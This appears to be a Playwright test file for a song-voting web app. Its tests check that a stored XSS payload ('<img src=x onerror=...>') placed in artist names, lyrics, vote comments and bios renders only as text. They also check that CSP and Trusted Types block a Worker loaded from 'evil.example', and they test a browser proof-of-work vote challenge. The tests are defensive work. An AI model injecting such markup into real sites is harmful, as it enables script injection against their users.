/** Attackers in a real browser, on an app of its own that asks everybody for work: markup that was stored, and the challenge. */
import { mkdirSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import { solve, type WorkTask } from '../src/web/solve-challenge.ts';
import { listViolations } from './accessible.ts';
import { signIn } from './sign-in-steps.ts';
import { dropDemoSongs, type StartedApp, startApp } from './start-app.ts';
import { makeTrack } from './tracks.ts';

const OWNER = { email: 'owner@test.example', password: 'correct horse' };
const PHONE = '+12025550177';
/** Would leave a mark, and a broken picture, wherever it is rendered. */
const MARKUP = '<img src=x onerror="window.hit=1"><b>Salt</b>';

let app: StartedApp;
let track: number;
test.beforeAll(async () => {
  app = await startApp({
    ...{ ADMIN_EMAIL: OWNER.email, ADMIN_PASSWORD: OWNER.password, CHALLENGE: 'always', TRUST_PROXY: '1' },
  });
  await dropDemoSongs(app);
});
test.afterAll(() => app.stop());
test.describe.configure({ mode: 'serial' });

const toasts = (page: Page) => page.locator('[data-variant][data-state=open]');

/** Words of an attacker in every place that keeps some. */
async function storeMarkup(page: Page): Promise<number> {
  const send = async (method: 'post' | 'put' | 'patch', path: string, options: object) => {
    const answer = await page.request[method](app.url + path, options);
    expect(answer.ok(), `${path}: ${await answer.text()}`).toBe(true);
    return answer.json();
  };
  await signIn(page, PHONE, app.url);
  const audioFile = await makeTrack('attack.mp3', 7, 331);
  const song = { artistName: MARKUP, phoneNumber: PHONE, trackTitle: MARKUP, audioFile };
  const { submissionId: id } = await send('post', '/api/submissions', { multipart: song });
  await expect
    .poll(
      async () => (await (await page.request.get(`${app.url}/api/submissions/${id}/status`)).json()).analyzed,
      {
        timeout: 200_000,
      },
    )
    .toBe(true);
  const { revision } = await (await page.request.get(`${app.url}/api/submissions/${id}/lyrics`)).json();
  await send('put', `/api/submissions/${id}/lyrics`, { data: { text: `${MARKUP}\n`.repeat(12), revision } });
  const buyer = { voterName: MARKUP, voterPhone: PHONE, votePackage: 'throne', comment: MARKUP };
  const { clientSecret } = await send('post', `/api/submissions/${id}/vote/payment`, { data: buyer });
  const card = { number: '4242424242424242', expiryMonth: 12, expiryYear: 2090, cvc: '123' };
  await send('post', '/api/sandbox/confirm', {
    data: { clientSecret, card, returnPath: '/payment-success' },
  });
  await expect
    .poll(async () => (await page.request.get(`${app.url}/api/submissions/${id}/votes`)).text())
    .toContain('onerror');
  const { artistId } = await (await page.request.get(`${app.url}/api/submissions/${id}`)).json();
  await send('patch', `/api/artists/${artistId}`, { data: { bio: MARKUP } });
  return id;
}

test('SEC-4 stored markup is shown as text on results, lyrics, vote page, artist page and board', async ({
  page,
}) => {
  test.slow();
  track = await storeMarkup(page);
  const { artistId } = await (await page.request.get(`${app.url}/api/submissions/${track}`)).json();
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedHTML|TrustedScript/.test(message.text()))
      refused.push(message.text());
  });
  const paths = [
    `/results/${track}`,
    `/artist-vote/${track}`,
    `/artist/${artistId}`,
    '/leaderboard',
    '/my-tracks',
  ];
  for (const path of paths) {
    await page.goto(app.url + path);
    await expect(page.getByText('onerror=').first(), path).toBeAttached();
    await page.waitForLoadState('networkidle', { timeout: 5000 }).catch(() => {});
    expect(await page.evaluate(() => 'hit' in window), path).toBe(false);
    expect(await page.locator('img[src="x"]').count(), path).toBe(0);
  }
  expect(refused).toEqual([]);
});

test('SEC-4 the browser refuses text as markup or script, whoever writes it', async ({ page }) => {
  await page.goto(`${app.url}/rules`);
  const tried = await page.evaluate((markup) => {
    const attempt = (deed: () => unknown) => {
      try {
        deed();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    return [
      attempt(() => document.body.insertAdjacentHTML('beforeend', markup)),
      attempt(() => new Worker('https://evil.example/x.js')),
      attempt(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
    ];
  }, MARKUP);
  expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError']);
  expect(await page.evaluate(() => 'hit' in window)).toBe(false);
});

test('LK-5 a browser that is asked works for its vote, says so meanwhile, and the vote counts', async ({
  browser,
}) => {
  const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
  const page = await context.newPage();
  let release = () => {};
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  await context.route(/solve-challenge/, async (route) => {
    await held;
    await route.continue();
  });
  await page.goto(`${app.url}/artist-vote/${track}`);
  await page.getByLabel('Your name').fill('Ada Fan');
  await page.getByLabel('Phone number').fill('+1 305 426 3918');
  await page.getByRole('button', { name: 'Vote free' }).click();
  await expect(page.getByRole('button', { name: 'Checking your browser…' })).toBeVisible();
  await expect(page.getByText('Your vote goes out by itself')).toBeVisible();
  expect(await listViolations(page)).toEqual([]);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  if (process.env.SCREENS) {
    mkdirSync(process.env.SCREENS, { recursive: true });
    await page.screenshot({ path: `${process.env.SCREENS}/checking-390.png` });
  }
  release();
  await expect(toasts(page)).toContainText('Vote Submitted!');
  await context.close();
});

/** Stands for another house's script: it shows what it was told, and answers when it is pressed. */
const WIDGET = `window.turnstile = {
  render(place, options) {
    const add = (text, deed) => {
      const button = document.createElement('button');
      button.textContent = text;
      button.onclick = deed;
      place.append(button);
    };
    add('Person at ' + options.sitekey + ' for ' + options.action, () => options.callback('given by the widget'));
    add('Fail', () => options['error-callback']());
    return 'widget 1';
  },
  remove(id) { window.removed = id; },
};`;

test('LK-5 a browser that cannot work is told plainly; another house’s widget is shown, its token goes with the vote, and a failure is told plainly', async ({
  page,
}) => {
  track ??= await storeMarkup(page);
  // The toast of the failure before lies over whatever stands at the bottom.
  const press = (name: string) => page.getByRole('button', { name }).dispatchEvent('click');
  const vote = page.getByRole('button', { name: 'Vote free' });
  await page.route(/solve-challenge/, (route) => route.abort());
  await page.goto(`${app.url}/artist-vote/${track}`);
  await page.getByLabel('Your name').fill('Ada Fan');
  await page.getByLabel('Phone number').fill('+1 305 426 8856');
  await vote.click();
  await expect(toasts(page)).toContainText('Your browser could not show that it is one');
  await expect(vote).toBeEnabled();

  const script = `${app.url}/assets/their-widget.js`;
  let given: string | undefined;
  let task: WorkTask | undefined;
  // The server asks for work; the page hears of a widget instead, and what it answers is worked out here.
  await page.route(/\/vote$/, async (route) => {
    given = await route
      .request()
      .headerValue('x-challenge')
      .then((value) => value ?? undefined);
    if (given && task) {
      const headers = { ...route.request().headers(), 'x-challenge': solve(task) };
      return route.continue({ headers });
    }
    const asked = await route.fetch();
    const body = await asked.json();
    task = body.challenge;
    return route.fulfill({
      response: asked,
      json: { ...body, challenge: { kind: 'widget', siteKey: 'our-site', script } },
    });
  });
  let isDown = true;
  await page.route(script, (route) =>
    isDown ? route.abort() : route.fulfill({ contentType: 'text/javascript', body: WIDGET }),
  );
  await vote.click();
  await expect.poll(() => task).toBeDefined();
  await expect(toasts(page)).toContainText('Your browser could not show that it is one');
  isDown = false;
  await vote.click();
  await press('Fail');
  await expect(vote).toBeEnabled();
  expect(given).toBeUndefined();
  await vote.click();
  await press('Person at our-site for vote');
  await expect(toasts(page).filter({ hasText: 'Vote Submitted!' })).toBeVisible();
  expect(given).toBe('given by the widget');
  await expect(page.getByRole('button', { name: 'Person at our-site' })).toHaveCount(0);
  expect(await page.evaluate(() => (window as { removed?: string }).removed)).toBe('widget 1');
});
